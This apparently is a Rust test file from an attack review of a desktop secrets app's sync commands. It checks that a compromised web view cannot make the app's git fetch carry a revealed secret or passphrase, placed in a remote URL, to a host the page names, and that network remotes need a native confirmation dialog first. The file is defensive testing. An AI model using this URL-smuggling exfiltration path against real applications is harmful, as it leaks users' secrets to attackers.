//! Attack review of the desktop sync commands (issue 9, slice 4): what a
//! compromised web view can do through them that it could not before.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::time::Duration;

use coffer_desktop::commands as c;
use coffer_desktop::dto::*;
use coffer_desktop::{IpcErrorCode, Session};

mod common;
use common::{secret, PW};

/// ATTACK (a compromised web view: a front-end dependency gone bad, an
/// injected script): the CSP lets the page talk to nothing but the IPC
/// (`connect-src ipc: http://ipc.localhost`), so what it reads (a revealed
/// value, the passphrase typed into it) has nowhere to go. Through
/// `join_preview` (identity unlocked, no vault open, no user action) it
/// names a "git remote" of its choosing, with the data in the URL, and the
/// app's `git fetch` carries it to that host.
/// SECURE: the app contacts no host the user did not confirm in Rust-side
/// UI (a native dialog showing the remote), whatever the web view sends.
/// FOUND: git connects to the web view's URL at once; the request line
/// carries the data.
#[test]
fn attack_join_preview_reaches_any_host_the_web_view_names() {
    let dir = tempfile::tempdir().expect("tmp");
    let s = bob_session(dir.path());
    let (port, seen) = listen();
    let stolen = "revealed-value-or-passphrase";
    let r = c::join_preview(
        &s,
        RemoteArgs {
            kind: RemoteKind::Git,
            location: format!("http://127.0.0.1:{port}/{stolen}.git"),
        },
    );
    let got = seen.join().expect("listener");
    assert!(
        got.is_none(),
        "join_preview (refused with: {:?}) made git carry the web view's data to its host: {:?}",
        r.as_ref().err().map(|e| &e.message),
        got.as_deref().and_then(|g| g.lines().next())
    );
    let Err(e) = r else {
        panic!("join_preview went on")
    };
    assert_eq!(e.code, IpcErrorCode::Conflict, "{}", e.message);
    assert!(e.message.contains("not confirmed"), "{}", e.message);
}

/// The user's answer in the native dialog decides: "Cancel" sends nothing;
/// "Connect" lets git reach the host, and the same remote is not asked
/// about again in the session. A repository on this machine is never
/// asked about.
#[test]
fn a_network_git_remote_is_contacted_only_once_the_user_confirms_it() {
    let dir = tempfile::tempdir().expect("tmp");
    let s = bob_session(dir.path());
    let answers = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let yes = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    {
        let (answers, yes) = (answers.clone(), yes.clone());
        s.set_remote_confirmer(Box::new(move |host, _url| {
            answers.lock().expect("m").push(host.to_string());
            yes.load(std::sync::atomic::Ordering::SeqCst)
        }));
    }
    let (port, seen) = listen();
    let args = || RemoteArgs {
        kind: RemoteKind::Git,
        location: format!("http://127.0.0.1:{port}/team.git"),
    };
    let e = c::join_preview(&s, args()).expect_err("cancelled");
    assert!(e.message.contains("not confirmed"), "{}", e.message);
    yes.store(true, std::sync::atomic::Ordering::SeqCst);
    let _ = c::join_preview(&s, args());
    assert!(
        seen.join().expect("listener").is_some(),
        "confirmed: git reached the host"
    );
    let _ = c::join_preview(&s, args());
    assert_eq!(
        *answers.lock().expect("m"),
        vec![format!("127.0.0.1:{port}"); 2],
        "asked once when cancelled, once when confirmed, then remembered"
    );
    let bare = dir.path().join("local.git");
    let _ = c::join_preview(
        &s,
        RemoteArgs {
            kind: RemoteKind::Git,
            location: bare.display().to_string(),
        },
    );
    assert_eq!(
        answers.lock().expect("m").len(),
        2,
        "a local repository is not asked about"
    );
}

fn bob_session(dir: &std::path::Path) -> Session {
    let s = Session::new(dir.join("home"), dir.join("v.coffer"));
    std::env::set_var("COFFER_TEST_KDF_FLOOR", "1");
    c::create_identity(
        &s,
        CreateIdentityArgs {
            name: "Bob".into(),
            email: None,
            password: secret(&s, "create_identity", PW),
            enable_keychain: false,
        },
    )
    .expect("identity");
    s
}

/// A one-shot HTTP listener on 127.0.0.1: its port, and the first request
/// line it saw within 20 s (if any).
fn listen() -> (u16, std::thread::JoinHandle<Option<String>>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    listener.set_nonblocking(true).expect("nonblocking");
    let seen = std::thread::spawn(move || {
        let deadline = std::time::Instant::now() + Duration::from_secs(20);
        while std::time::Instant::now() < deadline {
            match listener.accept() {
                Ok((mut conn, _)) => {
                    let _ = conn.set_nonblocking(false);
                    let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
                    let mut buf = [0u8; 2048];
                    let n = conn.read(&mut buf).unwrap_or(0);
                    let _ = conn.write_all(
                        b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                    );
                    return Some(String::from_utf8_lossy(&buf[..n]).into_owned());
                }
                Err(_) => std::thread::sleep(Duration::from_millis(50)),
            }
        }
        None
    });
    (port, seen)
}
